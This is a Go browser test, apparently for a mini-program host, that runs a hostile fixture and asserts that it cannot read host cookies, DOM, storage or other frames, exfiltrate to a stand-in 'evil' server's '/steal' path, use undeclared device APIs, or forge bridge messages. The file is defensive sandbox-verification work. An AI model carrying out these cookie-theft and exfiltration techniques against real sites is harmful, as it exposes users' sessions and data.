package web_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/openmini/openmini/internal/testenv"
)

// attackResult is what the hostile fixture's attacks return.
type attackResult struct {
	OK    bool   `json:"ok"`
	Value string `json:"value"`
	Error string `json:"error"`
	After *struct {
		OK    bool   `json:"ok"`
		Error string `json:"error"`
	} `json:"after"`
}

// TestHostIsolationInChromium runs the hostile mini program next to a
// friendly one and proves each isolation promise: it cannot read the
// host's DOM, cookies or session, another app's frames or storage, reach
// a server off its allow-list, use a device API it did not declare, move
// the host's window, or get a forged bridge message accepted.
func TestHostIsolationInChromium(t *testing.T) {
	w := newHostWorld(t)
	evil, evilHits := countingServer(t)
	friendly := w.publish(t, "friendly", "Friendly", nil, nil)
	h1 := w.publish(t, "hostile", "Hostile One", nil, nil)
	h2 := w.publish(t, "hostile", "Hostile Two", nil, nil)
	_, token := w.user(t, "mona@example.com")

	b := newBrowser(t, w.p.URL, testenv.BrowserOptions{Timeout: 3 * time.Minute})
	b.signIn(token)
	// Even with the browser allowing location for both origins, a mini
	// program's frame cannot use it directly.
	for _, o := range []string{w.p.URL, h1.Origin} {
		b.run(cdpbrowser.SetPermission(&cdpbrowser.PermissionDescriptor{Name: "geolocation"}, cdpbrowser.PermissionSettingGranted).WithOrigin(o))
	}

	// The friendly app keeps a secret in its storage and its localStorage.
	b.open("/app/" + friendly.ID + "/?lang=en")
	if r := b.sdk(friendly.ID, `setStorage({ key: 'secret', data: 'friendly-secret' })`); r["ok"] != true {
		t.Fatalf("friendly setStorage: %v", r)
	}
	b.in(friendly.ID, `localStorage.setItem('secret', 'friendly-local'); 1`, nil)

	// The hostile one runs beside it (both alive, one shell).
	b.top(`OpenMiniHost.open('`+h1.ID+`').then(() => 1)`, nil)
	b.waitIn(h1.ID, `window.attacks && openmini.ready`)
	var alive []string
	b.top(`OpenMiniHost.alive()`, &alive)
	if len(alive) != 2 {
		t.Fatalf("alive: %v", alive)
	}
	attack := func(expr string) attackResult {
		t.Helper()
		var r attackResult
		b.in(h1.ID, "window.attacks."+expr, &r)
		return r
	}
	str := func(expr string) string {
		t.Helper()
		var s string
		b.in(h1.ID, expr, &s)
		return s
	}

	// The host's DOM and storage.
	for _, a := range []string{"readParent()", "readTopCookie()", "readParentStorage()"} {
		if r := attack(a); r.OK || !strings.Contains(r.Error, "SecurityError") {
			t.Errorf("%s: %+v (must throw a SecurityError)", a, r)
		}
	}
	if r := attack("setDomain('localhost')"); r.After == nil || r.After.OK {
		t.Errorf("document.domain = 'localhost' then parent.document: %+v", r)
	}
	// Other frames: the friendly app's page is cross-origin to it.
	var frames []attackResult
	b.in(h1.ID, "window.attacks.readFrames()", &frames)
	if len(frames) == 0 {
		t.Error("readFrames found no other frame (the friendly app's page should be there)")
	}
	for _, f := range frames {
		if f.OK {
			t.Errorf("read another frame: %+v", f)
		}
	}

	// Cookies: the host's (session, device, language) never show on the
	// app origin; the session cookie is HttpOnly and host-only.
	if c := str("window.attacks.ownCookie()"); strings.Contains(c, "om_session") || strings.Contains(c, "om_device") || strings.Contains(c, "lang=") {
		t.Errorf("document.cookie on the app origin: %q", c)
	}
	var hostCookies []*network.Cookie
	b.run(chromedp.ActionFunc(func(ctx context.Context) error {
		var err error
		hostCookies, err = network.GetCookies().WithURLs([]string{w.p.URL + "/"}).Do(ctx)
		return err
	}))
	seen := map[string]bool{}
	for _, c := range hostCookies {
		seen[c.Name] = true
		if c.Name == "om_session" && (!c.HTTPOnly || strings.HasPrefix(c.Domain, ".") || c.Domain != "localhost") {
			t.Errorf("session cookie: %+v (must be HttpOnly and host-only)", c)
		}
		if c.Name == "om_device" && !c.HTTPOnly {
			t.Errorf("device cookie is readable by scripts: %+v", c)
		}
	}
	if !seen["om_session"] || !seen["lang"] {
		t.Errorf("host cookies: %v", seen)
	}
	var appCookies []*network.Cookie
	b.run(chromedp.ActionFunc(func(ctx context.Context) error {
		var err error
		appCookies, err = network.GetCookies().WithURLs([]string{h1.Origin + "/"}).Do(ctx)
		return err
	}))
	for _, c := range appCookies {
		t.Errorf("a host cookie reaches the app origin: %s (domain %s)", c.Name, c.Domain)
	}

	// Storage: through the SDK it only ever sees its own; localStorage is
	// per origin.
	if r := b.sdk(h1.ID, `getStorage({ key: 'secret' })`); r["code"] != "not_found" {
		t.Errorf("hostile getStorage('secret'): %v", r)
	}
	if r := b.sdk(h1.ID, `invoke('getStorage', { key: 'secret', app: '`+friendly.ID+`' })`); r["code"] != "not_found" {
		t.Errorf("hostile getStorage naming the friendly app: %v", r)
	}
	if r := b.sdk(h1.ID, `getStorageInfo()`); !strings.Contains(fmt.Sprint(r["result"]), "keys:[]") {
		t.Errorf("hostile getStorageInfo: %v", r)
	}
	var local any
	b.in(h1.ID, `localStorage.getItem('secret')`, &local)
	if local != nil {
		t.Errorf("hostile localStorage sees %v", local)
	}

	// The network: only its own origin.
	url := evil.URL + "/steal?c=" + "x"
	for _, a := range []string{"fetchURL", "image", "socket"} {
		target := url
		if a == "socket" {
			target = strings.Replace(url, "http://", "ws://", 1)
		}
		var got string
		b.in(h1.ID, "window.attacks."+a+"("+jsString(target)+")", &got)
		if !strings.HasPrefix(got, "blocked") {
			t.Errorf("%s to a server off the allow-list: %s", a, got)
		}
	}
	// sendBeacon only queues; the browser refuses it when it goes out
	// (the counting server's total below proves nothing arrived).
	attack("beacon(" + jsString(url) + ")")
	if got := str("window.attacks.sdkRequest(" + jsString(url) + ")"); got != "blocked: network" {
		t.Errorf("openmini.request to a server off the allow-list: %s", got)
	}

	// Device APIs: not declared in req_permissions.
	if got := str("window.attacks.sdkLocation()"); got != "not_declared" {
		t.Errorf("openmini.getLocation without declaring it: %s", got)
	}
	if got := str("window.attacks.directLocation()"); got != "error 1" {
		t.Errorf("navigator.geolocation in the frame: %s (must be denied by the permissions policy)", got)
	}
	if got := str("window.attacks.directClipboard()"); !strings.HasPrefix(got, "blocked") {
		t.Errorf("navigator.clipboard.readText in the frame: %s", got)
	}

	// The top window: it can neither navigate it nor open windows.
	var before string
	b.top(`location.href`, &before)
	attack("topNavigate(" + jsString(url) + ")")
	attack("openTop(" + jsString(url) + ")")
	if r := attack("popup(" + jsString(url) + ")"); r.OK && r.Value != "null" {
		t.Errorf("window.open gave a window: %+v", r)
	}
	time.Sleep(300 * time.Millisecond)
	var after string
	b.top(`location.href`, &after)
	if after != before {
		t.Errorf("the host's window moved from %s to %s", before, after)
	}

	// Forged bridge messages.
	forged := func(appID string) any {
		t.Helper()
		var r map[string]any
		b.top(`fetch('/host/api/storage', { method: 'POST', headers: { 'Content-Type': 'application/json', Accept: 'application/json' }, body: JSON.stringify({ app: '`+appID+`', op: 'get', key: 'forged' }) }).then((r) => r.json())`, &r)
		return r["data"]
	}
	// From a frame the host did not create (one the app nests itself).
	if r := attack("nestedForge()"); !r.OK {
		t.Logf("nested frame: %+v", r)
	}
	// Malformed messages from its own frame: ignored without a reply;
	// well-formed calls of methods that do not exist ("__proto__",
	// "constructor") get an unsupported error.
	b.in(h1.ID, "window.attacks.malformed()", nil)
	time.Sleep(500 * time.Millisecond)
	var replies []int
	b.in(h1.ID, "window.attacks.replies", &replies)
	if fmt.Sprint(replies) != "[900014 900016]" {
		t.Errorf("replies to forged and malformed messages: %v (want only 900014 and 900016, well-formed calls of methods that do not exist)", replies)
	}
	if r := b.sdk(h1.ID, `getSystemInfo()`); r["ok"] != true {
		t.Errorf("the bridge after malformed messages: %v", r)
	}
	// From another app's origin: the second hostile app is running; the
	// first one's frame loads the second one's forge page, which posts
	// calls from the second app's origin but not from its frames.
	b.top(`OpenMiniHost.open('`+h2.ID+`').then(() => 1)`, nil)
	b.waitIn(h2.ID, `openmini.ready`)
	b.top(`OpenMiniHost.open('`+h1.ID+`').then(() => 1)`, nil)
	b.in(h1.ID, `location.href = `+jsString(h2.Base+"pages/forge.html")+`; 1`, nil)
	b.waitIn(h1.ID, `location.pathname.endsWith('forge.html') && document.readyState === 'complete'`)
	time.Sleep(700 * time.Millisecond)
	for _, id := range []string{h1.ID, h2.ID} {
		if d := forged(id); d != nil {
			t.Errorf("a forged setStorage reached %s: %v", id, d)
		}
	}
	var state string
	b.top(`[OpenMiniHost.current(), document.getElementById('om-layer').hidden, OpenMiniHost.alive().length].join('|')`, &state)
	if state != h1.ID+"|true|3" {
		t.Errorf("after forged navigateToMiniProgram/showModal: current|layer hidden|alive = %s", state)
	}
	if n := evilHits.Load(); n != 0 {
		t.Errorf("the server off the allow-list saw %d requests", n)
	}
}
